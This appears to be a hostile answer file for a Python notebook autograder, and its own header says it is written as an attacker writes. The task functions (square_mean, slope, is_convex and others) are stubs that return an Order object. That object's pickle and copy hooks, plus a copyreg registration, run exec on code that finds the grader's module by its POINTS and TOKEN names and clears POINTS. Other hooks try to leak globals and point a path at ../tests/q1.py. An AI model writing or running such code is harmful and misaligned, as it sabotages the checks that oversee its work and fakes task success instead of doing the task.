# ruff: noqa  # written as an attacker writes
"""Answers whose `__reduce__`, state, copy and format would run code for whoever copies or pickles them."""

# %%
import copyreg

ORDER = """
import gc, sys
for module in list(sys.modules.values()):
    if hasattr(module, 'POINTS') and hasattr(module, 'TOKEN'):
        module.POINTS.clear()
"""


class Order:
    def __reduce_ex__(self, protocol):
        return (exec, (ORDER,))

    __reduce__ = lambda self: (exec, (ORDER,))
    __getstate__ = __getnewargs__ = lambda self: (ORDER,)
    __copy__ = __deepcopy__ = lambda self, *memo: eval("True")
    __format__ = lambda self, spec: "{0.__class__.__init__.__globals__}"
    __fspath__ = lambda self: "../tests/q1.py"
    __index__ = __int__ = __float__ = __complex__ = lambda self: 0


copyreg.pickle(type(len), lambda f: (exec, (ORDER,)))
square_mean = scale = slope = count_above = is_convex = total = lambda *args, **kwargs: Order()
# %%otherwise
# %%check q7 q1
